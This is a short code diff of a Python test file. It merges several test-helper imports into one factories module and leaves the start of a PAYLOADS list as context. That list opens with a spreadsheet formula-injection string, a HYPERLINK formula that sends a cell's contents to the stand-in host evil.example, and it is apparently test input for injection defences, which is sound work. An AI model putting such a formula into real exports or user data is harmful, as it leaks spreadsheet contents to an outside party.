@@ -10,9 +10,7 @@ import pytest
 from aiohttp.test_utils import TestClient
 
 from engine.settings import Settings
-from tests.conftest import Account, run_worker
-from tests.test_inbound import path_of
-from tests.test_webhooks_api import create
+from tests.support.factories import Account, create, path_of, run_worker
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?d="&A1,"click")',
